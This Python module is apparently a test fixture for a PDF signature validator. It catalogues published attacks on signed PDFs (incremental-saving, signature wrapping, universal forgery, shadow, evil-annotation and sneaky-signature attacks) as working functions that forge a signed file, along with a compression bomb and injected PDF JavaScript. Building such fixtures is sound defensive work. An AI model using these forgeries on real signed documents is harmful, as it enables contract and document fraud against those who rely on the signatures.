"""Attacks on signed PDFs: the known classes, each a function from a PDF to the forged one.

`UPDATES` append a change, as a program that knows nothing of signatures would, or an attacker who hopes that nobody looks
beyond “the signature is valid”. `FORGERIES` change, move or cut bytes. The names of the classes are those of the literature:
Mladenov and others, “1 Trillion Dollar Refund” (2019: USF, ISA, SWA); “Shadow Attacks” (2021); “Breaking the
Specification: PDF Certification” (2021: EAA, SSA).
"""

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from asn1crypto import cms, core
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NullObject,
    NumberObject,
    StreamObject,
    pdf_name,
    pdf_string,
)
from pyhanko.pdf_utils.reader import PdfFileReader

from engross.signing.verdict import Reason
from signed_library import MEI_FIELD, SEAL, TOMAS_FIELD, Writer

Change = Callable[[Writer], None]
Forgery = Callable[[bytes], bytes]


@dataclass(frozen=True, slots=True)
class Attack:
    """A forgery, and what has to be found wrong with it."""

    name: str
    reason: Reason
    forge: Forgery


UPDATES: list[Attack] = []
FORGERIES: list[Attack] = []


def _update(reason: Reason) -> Callable[[Change], Change]:
    """Note a change that is appended to a PDF."""

    def note(change: Change) -> Change:
        UPDATES.append(Attack(change.__name__, reason, lambda data: update(data, change)))
        return change

    return note


def _forgery(reason: Reason) -> Callable[[Forgery], Forgery]:
    """Note a change of the bytes of a PDF."""

    def note(forge: Forgery) -> Forgery:
        FORGERIES.append(Attack(forge.__name__, reason, forge))
        return forge

    return note


def update(data: bytes, *changes: Change) -> bytes:
    """The PDF with an incremental update (ISO 32000-1, 7.5.6)."""
    writer = Writer(io.BytesIO(data), strict=False)
    for change in changes:
        change(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


# What updates consist of


def _names(**values: object) -> DictionaryObject:
    """A dictionary; a string that begins with a slash is a name, another one a text."""
    return DictionaryObject({pdf_name(f"/{key}"): _value(value) for key, value in values.items()})


def _value(value: object) -> generic.PdfObject:
    if isinstance(value, generic.PdfObject):
        return value
    if isinstance(value, bool):
        return BooleanObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, list | tuple):
        return ArrayObject(_value(each) for each in value)
    text = str(value)
    return NameObject(text) if text.startswith("/") else pdf_string(text)


def _stream(writer: Writer, data: bytes, **values: object) -> IndirectObject:
    return writer.add_object(StreamObject(_names(**values), stream_data=data))


def _rewrite(writer: Writer, reference: IndirectObject, data: bytes) -> None:
    """Put other data in the place of a stream's."""
    stream = writer.get_object(reference.reference)
    assert isinstance(stream, StreamObject)
    stream._data, stream._encoded_data = data, None
    stream.pop("/Filter", None)
    writer.mark_update(reference)


def _page(writer: Writer, number: int = -1) -> DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][number]
    assert isinstance(page, DictionaryObject)
    return page


def _page_reference(writer: Writer, number: int = -1) -> IndirectObject:
    reference = writer.root["/Pages"]["/Kids"].raw_get(number)
    return IndirectObject(reference.idnum, reference.generation, writer)


def _field(writer: Writer, name: str) -> DictionaryObject:
    fields = (each.get_object() for each in writer.root["/AcroForm"]["/Fields"])
    return next(each for each in fields if each["/T"] == name)


def _next_field(writer: Writer) -> DictionaryObject:
    """The first field that nobody has signed, or the last one."""
    fields = [_field(writer, name) for name in (MEI_FIELD, TOMAS_FIELD)]
    return next((each for each in fields if "/V" not in each), fields[-1])


def _annotate(writer: Writer, annotation: DictionaryObject, number: int = -1) -> IndirectObject:
    reference = writer.add_object(annotation)
    annotation[pdf_name("/P")] = _page_reference(writer, number)
    annotations = _page(writer, number)["/Annots"]
    annotations.append(reference)
    writer.update_container(annotations)
    return reference


def _drawing(writer: Writer, words: str, size: tuple[int, int]) -> IndirectObject:
    """Something to look at: words on a white box."""
    font = _names(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica")
    drawn = f"1 g 0 0 {size[0]} {size[1]} re f 0 g BT /F 12 Tf 4 4 Td ({words}) Tj ET".encode()
    resources = _names(Font=_names(F=font))
    return _stream(
        writer, drawn, Type="/XObject", Subtype="/Form", BBox=(0, 0, *size), Resources=resources
    )


def _script() -> DictionaryObject:
    return _names(S="/JavaScript", JS="app.alert(1)")


def _attachment(writer: Writer, name: str, data: bytes = b"all different") -> IndirectObject:
    file = _stream(writer, data, Type="/EmbeddedFile", Subtype="/text#2Fplain")
    specification = _names(Type="/Filespec", F=name, UF=name, EF=_names(F=file, UF=file))
    specification[pdf_name("/AFRelationship")] = pdf_name("/Source")
    return writer.add_object(specification)


# Pages


@_update(Reason.ALTERED)
def add_page(writer: Writer) -> None:
    """A page is put behind the last."""
    pages = writer.root["/Pages"]
    content = _stream(writer, b"BT ET")
    new = _names(Type="/Page", MediaBox=(0, 0, 595, 842), Resources=DictionaryObject(), Contents=content)
    new[pdf_name("/Parent")] = IndirectObject(pages.container_ref.idnum, 0, writer)
    pages["/Kids"].append(writer.add_object(new))
    pages[pdf_name("/Count")] = NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)


@_update(Reason.ALTERED)
def replace_page(writer: Writer) -> None:
    """The page tree leads to another second page (ISA, and the second half of the shadow attack “replace”)."""
    old = _page(writer, 1)
    new = DictionaryObject({key: old.raw_get(key) for key in old})
    new[pdf_name("/Contents")] = _stream(writer, b"BT ET")
    kids = writer.root["/Pages"]["/Kids"]
    kids[1] = writer.add_object(new)
    writer.update_container(kids)


@_update(Reason.ALTERED)
def remove_page(writer: Writer) -> None:
    """The second page is hidden."""
    pages = writer.root["/Pages"]
    del pages["/Kids"][1]
    pages[pdf_name("/Count")] = NumberObject(int(pages["/Count"]) - 1)
    writer.update_container(pages)


@_update(Reason.ALTERED)
def overwrite_page_content(writer: Writer) -> None:
    """The object that draws a page is written anew under its old number."""
    _rewrite(writer, _page(writer, 1).raw_get("/Contents"), b"0 0 1 rg 0 0 595 842 re f")


@_update(Reason.ALTERED)
def draw_over_page(writer: Writer) -> None:
    """A page gets a second stream of content, which draws over the first."""
    page = _page(writer, 1)
    page[pdf_name("/Contents")] = ArrayObject(
        [page.raw_get("/Contents"), _stream(writer, b"1 g 0 0 595 842 re f")]
    )
    writer.update_container(page)


@_update(Reason.ALTERED)
def crop_page(writer: Writer) -> None:
    """Half of a page is cut off."""
    page = _page(writer, 1)
    page[pdf_name("/CropBox")] = _value((0, 0, 595, 400))
    writer.update_container(page)


# Annotations (EAA: evil annotation attack; also on a certified PDF)


@_update(Reason.ALTERED)
def add_text_over_signature(writer: Writer) -> None:
    """A free text hides what stands in the field of a signature."""
    look = _drawing(writer, "declined", (294, 73))
    left, bottom, right, top = (float(each) for each in _field(writer, SEAL)["/Rect"])
    box = ArrayObject(generic.FloatObject(each) for each in (left, bottom, right, top))
    _annotate(
        writer,
        _names(Type="/Annot", Subtype="/FreeText", Rect=box, Contents="declined", F=4, AP=_names(N=look)),
    )


@_update(Reason.ALTERED)
def add_stamp(writer: Writer) -> None:
    """A stamp draws a sentence over the first page."""
    look = _drawing(writer, "Every client has two owners.", (400, 40))
    _annotate(
        writer,
        _names(Type="/Annot", Subtype="/Stamp", Rect=(60, 500, 460, 540), F=4, AP=_names(N=look)),
        0,
    )


@_update(Reason.ALTERED)
def add_link(writer: Writer) -> None:
    """A link covers the page."""
    action = _names(S="/URI", URI="https://example.org/")
    _annotate(writer, _names(Type="/Annot", Subtype="/Link", Rect=(0, 0, 595, 842), A=action), 0)


@_update(Reason.ALTERED)
def divert_link(writer: Writer) -> None:
    """A link of the PDF leads elsewhere."""
    links = [each.get_object() for each in _page(writer, 0)["/Annots"]]
    link = next(each for each in links if each["/Subtype"] == "/Link")
    link.pop("/Dest", None)
    link[pdf_name("/A")] = _names(S="/URI", URI="https://example.org/")
    writer.update_container(link)


@_update(Reason.ALTERED)
def attach_to_page(writer: Writer) -> None:
    """A file hangs on an annotation."""
    file = _attachment(writer, "policy.yaml")
    _annotate(writer, _names(Type="/Annot", Subtype="/FileAttachment", Rect=(9, 9, 29, 29), FS=file), 0)


# Form fields


@_update(Reason.ALTERED)
def fill_in_form(writer: Writer) -> None:
    """An ordinary field of a form is filled in, as its reader may, but not after somebody signed."""
    field = _field(writer, "form_protocol_client")
    field[pdf_name("/V")] = pdf_string("All clients")
    field[pdf_name("/AP")] = _names(N=_drawing(writer, "All clients", (215, 18)))
    writer.update_container(field)


@_update(Reason.ALTERED)
def add_text_field(writer: Writer) -> None:
    """A field with a text in it is put over a page."""
    field = _names(Type="/Annot", Subtype="/Widget", FT="/Tx", T="note", V="void", Rect=(60, 400, 460, 440))
    field[pdf_name("/AP")] = _names(N=_drawing(writer, "This policy is void.", (400, 40)))
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(_annotate(writer, field))
    writer.update_container(fields)


@_update(Reason.ALTERED)
def move_signature(writer: Writer) -> None:
    """The place of a signature is moved over the text."""
    field = _field(writer, SEAL)
    field[pdf_name("/Rect")] = _value((60, 300, 560, 700))
    writer.update_container(field)


@_update(Reason.ALTERED)
def hide_signature(writer: Writer) -> None:
    """A signature is not shown any more."""
    field = _field(writer, SEAL)
    field[pdf_name("/F")] = NumberObject(2)
    writer.update_container(field)


@_update(Reason.ALTERED)
def redraw_signature(writer: Writer) -> None:
    """A signature shows something else."""
    field = _field(writer, SEAL)
    field[pdf_name("/AP")] = _names(N=_drawing(writer, "Draft", (294, 73)))
    writer.update_container(field)


@_update(Reason.ALTERED)
def take_signature_out(writer: Writer) -> None:
    """The seal is taken out of its field."""
    field = _field(writer, SEAL)
    del field["/V"]
    writer.update_container(field)


def empty_signed_field(writer: Writer) -> None:
    """The field that was signed last is empty again, for another signature in it."""
    field = _last_signed(writer)
    del field["/V"]
    writer.update_container(field)


@_update(Reason.ALTERED)
def lock_next_field(writer: Writer) -> None:
    """The next one to sign finds a field that cannot be signed."""
    field = _next_field(writer)
    field[pdf_name("/Ff")] = NumberObject(1)
    writer.update_container(field)


@_update(Reason.ALTERED)
def draw_in_next_field(writer: Writer) -> None:
    """It looks as if the next one had signed (SSA: sneaky signature attack)."""
    field = _next_field(writer)
    field[pdf_name("/AP")] = _names(N=_drawing(writer, "Tomas Lindqvist", (294, 73)))
    writer.update_container(field)


@_update(Reason.FIELDS)
def add_signature_field(writer: Writer) -> None:
    """There is one more place to sign, with a look of its own (SSA)."""
    _add_signature_field(writer, (60, 400, 460, 440), AP=_names(N=_drawing(writer, "void", (400, 40))))


@_update(Reason.FIELDS)
def add_scripted_field(writer: Writer) -> None:
    """A place to sign that nobody sees runs a script when its page is opened."""
    _add_signature_field(writer, (0, 0, 0, 0), AA=_names(PO=_script()))


def _add_signature_field(writer: Writer, box: tuple[int, ...], **more: object) -> None:
    field = _names(Type="/Annot", Subtype="/Widget", FT="/Sig", T="more", Rect=box, F=4, **more)
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(_annotate(writer, field, 0))
    writer.update_container(fields)


@_update(Reason.ALTERED)
def have_fields_drawn_anew(writer: Writer) -> None:
    """Viewers are told to draw the fields of forms themselves."""
    form = writer.root["/AcroForm"]
    form[pdf_name("/NeedAppearances")] = BooleanObject(True)
    writer.update_container(form)


@_update(Reason.ALTERED)
def add_form_data(writer: Writer) -> None:
    """An XFA form, which some viewers show in the place of the pages."""
    form = writer.root["/AcroForm"]
    form[pdf_name("/XFA")] = _stream(writer, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    writer.update_container(form)


# Metadata


@_update(Reason.CONTENT)
def change_title_in_metadata(writer: Writer) -> None:
    """The XMP metadata give another title."""
    _edit_metadata(writer, b"Hand-over Policy", b"Take-over Policy")


@_update(Reason.CONTENT)
def give_second_title_in_metadata(writer: Writer) -> None:
    """The XMP metadata give two titles; the first is another one."""
    title = b'<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Other</rdf:li></rdf:Alt></dc:title>'
    new = b'<rdf:Description rdf:about="">' + title + b"</rdf:Description>"
    _edit_metadata(writer, b"<rdf:Description", new + b"<rdf:Description")


def _edit_metadata(writer: Writer, old: bytes, new: bytes) -> None:
    reference = writer.root.raw_get("/Metadata")
    data = reference.get_object().data
    assert old in data
    _rewrite(writer, reference, data.replace(old, new, 1))


@_update(Reason.CONTENT)
def change_information(writer: Writer) -> None:
    """The document information gives another author."""
    reference = writer.prev.trailer.raw_get("/Info")
    information = writer.get_object(reference.reference)
    information[pdf_name("/Author")] = pdf_string("Somebody else")
    writer.mark_update(reference)


# Attachments


@_update(Reason.CONTENT)
def replace_attachment(writer: Writer) -> None:
    """The definition inside is overwritten."""
    specification = writer.root["/AF"][0]
    _rewrite(writer, specification["/EF"].raw_get("/F"), b"schema_version: 1\n")


@_update(Reason.CONTENT)
def swap_attachment(writer: Writer) -> None:
    """Another definition of the same name takes the place of the one inside."""
    writer.root[pdf_name("/AF")] = ArrayObject([_attachment(writer, "policy.yaml")])
    writer.update_root()


@_update(Reason.CONTENT)
def add_attachment(writer: Writer) -> None:
    """A file is attached."""
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    names += [pdf_string("zzz"), _attachment(writer, "more.txt")]
    writer.update_container(names)


@_update(Reason.CONTENT)
def associate_attachment(writer: Writer) -> None:
    """A file is attached that only the list of associated files names (/AF)."""
    writer.root["/AF"].append(_attachment(writer, "more.txt"))
    writer.update_root()


@_update(Reason.CONTENT)
def take_attachment_out(writer: Writer) -> None:
    """The definition is taken out."""
    del writer.root["/AF"]
    del writer.root["/Names"]["/EmbeddedFiles"]
    writer.update_root()


# Programs, and what the catalog leads to


@_update(Reason.ALTERED)
def run_on_opening(writer: Writer) -> None:
    """A script runs when the PDF is opened."""
    writer.root[pdf_name("/OpenAction")] = _script()
    writer.update_root()


@_update(Reason.ALTERED)
def add_named_script(writer: Writer) -> None:
    """A script runs when the PDF is opened, from the tree of names."""
    writer.root["/Names"][pdf_name("/JavaScript")] = _names(Names=["a", _script()])
    writer.update_root()


@_update(Reason.ALTERED)
def run_on_page(writer: Writer) -> None:
    """A script runs when a page is shown."""
    page = _page(writer, 0)
    page[pdf_name("/AA")] = _names(O=_script())
    writer.update_container(page)


@_update(Reason.ALTERED)
def run_on_signature(writer: Writer) -> None:
    """A script runs when somebody clicks on the next field to sign."""
    field = _next_field(writer)
    field[pdf_name("/AA")] = _names(D=_script())
    writer.update_container(field)


@_update(Reason.ALTERED)
def add_layers(writer: Writer) -> None:
    """Optional content: layers that are shown to some and not to others (shadow attack “hide”)."""
    layer = writer.add_object(_names(Type="/OCG", Name="Hidden"))
    writer.root[pdf_name("/OCProperties")] = _names(OCGs=[layer], D=_names(OFF=[layer]))
    writer.update_root()


@_update(Reason.ALTERED)
def divert_destinations(writer: Writer) -> None:
    """The names that links lead to mean other places."""
    names = writer.root["/Names"]["/Dests"]["/Names"]
    names[1] = ArrayObject([_page_reference(writer, 0), pdf_name("/Fit")])
    writer.update_container(names)


@_update(Reason.ALTERED)
def change_outline(writer: Writer) -> None:
    """A bookmark says something else."""
    first = writer.root["/Outlines"]["/First"]
    first[pdf_name("/Title")] = pdf_string("Void")
    writer.update_container(first)


@_update(Reason.ALTERED)
def change_tags(writer: Writer) -> None:
    """A screen reader is given other words than the eye (/ActualText)."""
    tree = writer.root["/StructTreeRoot"]
    kid = tree["/K"][0] if isinstance(tree["/K"], ArrayObject) else tree["/K"]
    kid.get_object()[pdf_name("/ActualText")] = pdf_string("Every client has two owners.")
    writer.update_container(kid.get_object())


@_update(Reason.ALTERED)
def drop_tags(writer: Writer) -> None:
    """The PDF says that it is not tagged."""
    writer.root[pdf_name("/MarkInfo")] = _names(Marked=False)
    writer.update_root()


@_update(Reason.ALTERED)
def drop_permissions(writer: Writer) -> None:
    """What the seal allows is not looked up any more."""
    del writer.root["/Perms"]
    writer.update_root()


@_update(Reason.ALTERED)
def hide_in_extensions(writer: Writer) -> None:
    """Something is hidden where the names of extensions stand."""
    writer.root[pdf_name("/Extensions")] = _names(XXXX=_names(Type="/DeveloperExtensions", Note="void"))
    writer.update_root()


@_update(Reason.ALTERED)
def free_object(writer: Writer) -> None:
    """A page's content is replaced by nothing."""
    page = _page(writer, 1)
    reference = page.raw_get("/Contents")
    writer.objects[(reference.generation, reference.idnum)] = NullObject()


# Fonts


@_update(Reason.ALTERED)
def replace_font(writer: Writer) -> None:
    """A font gets other letters: what was “must” may read “may”."""
    fonts = _page(writer, 0)["/Resources"]["/Font"]
    font = next(iter(fonts.values())).get_object()
    descendant = font["/DescendantFonts"][0]
    _rewrite(writer, descendant["/FontDescriptor"].raw_get(_font_file(descendant)), b"another font")


@_update(Reason.ALTERED)
def replace_font_through_form(writer: Writer) -> None:
    """A font of the pages is overwritten, and named by the form, whose own fonts may change."""
    fonts = _page(writer, 0)["/Resources"]["/Font"]
    reference = fonts.raw_get(next(iter(fonts)))
    font = writer.get_object(reference.reference)
    font[pdf_name("/Encoding")] = pdf_name("/Identity-V")
    writer.mark_update(reference)
    form = writer.root["/AcroForm"]
    form["/DR"]["/Font"][pdf_name("/Evil")] = IndirectObject(reference.idnum, reference.generation, writer)
    writer.update_container(form["/DR"])
    writer.update_container(form)


def _font_file(font: DictionaryObject) -> str:
    return next(key for key in font["/FontDescriptor"] if key.startswith("/FontFile"))


# Bombs


@_update(Reason.UNREADABLE)
def attach_bomb(writer: Writer) -> None:
    """An attachment of 300 kB that is 300 MB when it is unpacked."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(300)) + packer.flush()
    stream = StreamObject(_names(Type="/EmbeddedFile", Filter="/FlateDecode"), encoded_data=packed)
    specification = _names(Type="/Filespec", F="b", UF="b", EF=_names(F=writer.add_object(stream)))
    writer.root["/AF"].append(writer.add_object(specification))
    writer.update_root()


@_update(Reason.ALTERED)
def knot_pages(writer: Writer) -> None:
    """The page tree contains itself."""
    pages = writer.root["/Pages"]
    pages["/Kids"].append(IndirectObject(pages.container_ref.idnum, 0, writer))
    writer.update_container(pages)


# Forgeries: incremental saving attacks (ISA)


def _end_of_last(data: bytes) -> bytes:
    """The last lines of a PDF: where its table of objects begins, and its end."""
    return data[data.rindex(b"startxref") :]


@_forgery(Reason.FORGED)
def append_objects_without_table(data: bytes) -> bytes:
    """New objects and an end, but no table and no trailer for them (ISA)."""
    return data + b"22 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n" + _end_of_last(data)


@_forgery(Reason.UNREADABLE)
def append_without_trailer(data: bytes) -> bytes:
    """A table of objects without a trailer, which some readers do without (ISA)."""
    table = len(data) + 50
    new = b"22 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n".ljust(50)
    return data + new + b"xref\n22 1\n%010d 00000 n \nstartxref\n%d\n%%%%EOF\n" % (len(data), table)


@_forgery(Reason.FORGED)
def append_second_end(data: bytes) -> bytes:
    """Something hidden behind the end, with the same end once more after it."""
    return data + b"% hidden\n" + _end_of_last(data)


@_forgery(Reason.APPENDED)
def append_bytes(data: bytes) -> bytes:
    """Something hidden behind the end."""
    return data + b"hidden\n"


@_forgery(Reason.APPENDED)
def append_much(data: bytes) -> bytes:
    """A megabyte hidden behind the end, so that the end is not where readers look for it."""
    return data + bytes(1 << 20)


@_forgery(Reason.ALTERED)
def repeat_signature(data: bytes) -> bytes:
    """A change of a page, and the newest signature's object once more after it, as if it had been made last (ISA)."""
    return update(data, overwrite_page_content, _repeat_signature)


def _repeat_signature(writer: Writer) -> None:
    reference = _last_signed(writer).raw_get("/V")
    writer.mark_update(reference)


def _last_signed(writer: Writer) -> DictionaryObject:
    fields = [_field(writer, name) for name in (SEAL, MEI_FIELD, TOMAS_FIELD)]
    return [each for each in fields if "/V" in each][-1]


@_forgery(Reason.FORGED)
def rebuild(data: bytes) -> bytes:
    """A table that names all objects anew and leads to none before it: other pages, and all old bytes are still there."""
    return _rebuild(data, b"<</Length 25>>\nstream\n0 0 1 rg 0 0 595 842 re f\nendstream")


def rebuild_unsealed(data: bytes) -> bytes:
    """As `rebuild`, with the seal taken out too, so that no signature speaks against it: for somebody to sign."""
    writer = Writer(io.BytesIO(data), strict=False)
    field, root = _field(writer, SEAL), writer.root
    new = {
        field.container_ref.idnum: DictionaryObject({k: field.raw_get(k) for k in field if k != "/V"}),
        writer.root_ref.idnum: DictionaryObject({k: root.raw_get(k) for k in root if k != "/Perms"}),
    }
    written: dict[int, bytes] = {}
    for number, value in new.items():
        buffer = io.BytesIO()
        value.write_to_stream(buffer)
        written[number] = buffer.getvalue()
    return _rebuild(data, b"<</Length 25>>\nstream\n0 0 1 rg 0 0 595 842 re f\nendstream", written)


def _rebuild(data: bytes, page: bytes, more: dict[int, bytes] | None = None) -> bytes:
    reader = PdfFileReader(io.BytesIO(data))
    content = reader.root["/Pages"]["/Kids"][1].raw_get("/Contents")
    places = {int(found[1]): found.start() for found in re.finditer(rb"(?<=\n)(\d+) 0 obj", data)}
    made = bytearray(data)
    for number, body in {content.idnum: page, **(more or {})}.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table, size = len(made), max(places) + 1
    made += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        made += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    root, info = reader.trailer_view.raw_get("/Root").idnum, reader.trailer_view.raw_get("/Info").idnum
    trailer = b"<</Size %d/Root %d 0 R/Info %d 0 R/ID[<00><00>]>>" % (size, root, info)
    return bytes(made) + b"trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (trailer, table)


# Forgeries: signature wrapping (SWA), and padding


def byte_range(data: bytes) -> tuple[int, int, int, int]:
    """The byte range of the newest signature: where it stands is the last one in the file."""
    found = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
    first, second, third, fourth = (int(each) for each in found.groups())
    return first, second, third, fourth


@_forgery(Reason.FORGED)
def wrap_signature(data: bytes) -> bytes:
    """What was signed is left as it was, but its second half is moved back; in between stand other objects (SWA).

    The table of objects that the end of the PDF leads to is the attacker's, and so is the signature's dictionary: it has
    the same signature and another byte range.
    """
    _, first, second, length = byte_range(data)
    number = int(re.findall(rb"(\d+) 0 obj\b", data[:first])[-1])
    start = data.rindex(b"%d 0 obj" % number, 0, first)
    table = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    end = data.index(b"endobj", second) + 6

    def wrap(room: int) -> bytes:
        old = re.findall(rb"/ByteRange\s*\[[^]]*\]", data[start:end])[-1]
        new = b"/ByteRange [0 %d %d %d]" % (first, second + room, length)
        copy = data[start:end].replace(old, new.ljust(len(old)))
        page = b"22 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n".ljust(60)
        entries = data[table : data.index(b"trailer", table)].replace(b"%010d" % start, b"%010d" % (at + 60))
        trailer = data[data.index(b"trailer", table) : data.index(b"startxref", table)]
        body = entries + b"22 1\n%010d 00000 n \n" % at + trailer
        return data[second:table] + body.ljust(at - table) + page + copy + b"\n"

    at = table + 1000
    room = wrap(len(wrap(0)))
    return data[:second] + room + data[second:]


@_forgery(Reason.FORGED)
def pad_signature(data: bytes) -> bytes:
    """Data in the place that is kept for the signature, behind it."""
    _, first, second, _ = byte_range(data)
    return data[: second - 21] + b"deadbeef" * 2 + b"0000" + data[second - 1 :]


@_forgery(Reason.FORGED)
def space_out_signature(data: bytes) -> bytes:
    """The signature in another spelling, which leaves room for bytes that are no hexadecimal digits."""
    _, first, second, _ = byte_range(data)
    return data[: second - 21] + b" " * 20 + data[second - 1 :]


@_forgery(Reason.FORGED)
def hide_in_unsigned_attributes(data: bytes) -> bytes:
    """Data in an attribute of the signature that is not signed."""
    return replace_signature(data, _add_attribute)


def _add_attribute(content: cms.ContentInfo) -> None:
    info = content["content"]["signer_infos"][0]
    hidden = cms.CMSAttribute({"type": "1.2.3.4.5", "values": [core.OctetString(b"hidden")]})
    info["unsigned_attrs"] = cms.CMSAttributes([*(info["unsigned_attrs"] or ()), hidden])


def replace_signature(data: bytes, change: Callable[[cms.ContentInfo], None]) -> bytes:
    """The PDF with its newest signature changed, in its place and of the same length."""
    _, first, second, _ = byte_range(data)
    content = cms.ContentInfo.load(bytes.fromhex(data[first + 1 : second - 1].decode()))
    change(content)
    room = second - first - 2
    written = content.dump(force=True).hex().encode().ljust(room, b"0")
    assert len(written) == room
    return data[: first + 1] + written + data[second - 1 :]


# Forgeries: universal signature forgery (USF)


def _usf(reason: Reason, name: str, key: str, value: generic.PdfObject | None) -> None:
    def change(writer: Writer) -> None:
        signature = _last_signed(writer)["/V"]
        signature.pop(key, None)
        if value is not None:
            signature[pdf_name(key)] = value
        writer.update_container(signature)

    UPDATES.append(Attack(name, reason, lambda data: update(data, change)))


_usf(Reason.FORGED, "no_byte_range", "/ByteRange", None)
_usf(Reason.FORGED, "null_byte_range", "/ByteRange", NullObject())
_usf(Reason.FORGED, "empty_byte_range", "/ByteRange", ArrayObject())
_usf(Reason.FORGED, "zero_byte_range", "/ByteRange", _value((0, 0, 0, 0)))
_usf(Reason.FORGED, "negative_byte_range", "/ByteRange", _value((0, -1, -1, 10)))
_usf(Reason.FORGED, "no_contents", "/Contents", None)
_usf(Reason.FORGED, "null_contents", "/Contents", NullObject())
_usf(Reason.FORGED, "empty_contents", "/Contents", generic.ByteStringObject(b""))
_usf(Reason.FORGED, "zero_contents", "/Contents", generic.ByteStringObject(bytes(64)))


# Forgeries: other


@_forgery(Reason.UNKNOWN_FORMAT)
def claim_old_format(data: bytes) -> bytes:
    """The newest signature is said to be in a format that this library's programs do not check."""
    return _rename_format(data, b"/adbe.x509.rsa_sha1")


@_forgery(Reason.UNKNOWN_FORMAT)
def claim_sha1_format(data: bytes) -> bytes:
    """As `claim_old_format`, with the other one of the old formats."""
    return _rename_format(data, b"/adbe.pkcs7.sha1")


@_forgery(Reason.UNKNOWN_FORMAT)
def claim_new_format(data: bytes) -> bytes:
    """As `claim_old_format`, with one that does not exist."""
    return _rename_format(data, b"/ACME.quantum")


def _rename_format(data: bytes, name: bytes) -> bytes:
    old = b"/ETSI.CAdES.detached"
    at = data.rindex(old)
    return data[:at] + name.ljust(len(old)) + data[at + len(old) :]


@_forgery(Reason.ALTERED)
def change_letter(data: bytes) -> bytes:
    """A byte of what the seal covers is another one."""
    at = data.index(b"/MediaBox")
    return data[:at] + b"/MediaBoy" + data[at + 9 :]


@_forgery(Reason.UNREADABLE)
def cut_off(data: bytes) -> bytes:
    """The end is missing."""
    return data[: len(data) - 5000]


@_forgery(Reason.UNREADABLE)
def add_hybrid_table(data: bytes) -> bytes:
    """A second table of objects, for newer readers, that says something else than the first (hybrid references)."""
    old = data.rindex(b"trailer")
    return data[:old] + data[old:].replace(b"/Root", b"/XRefStm 15 /Root", 1)
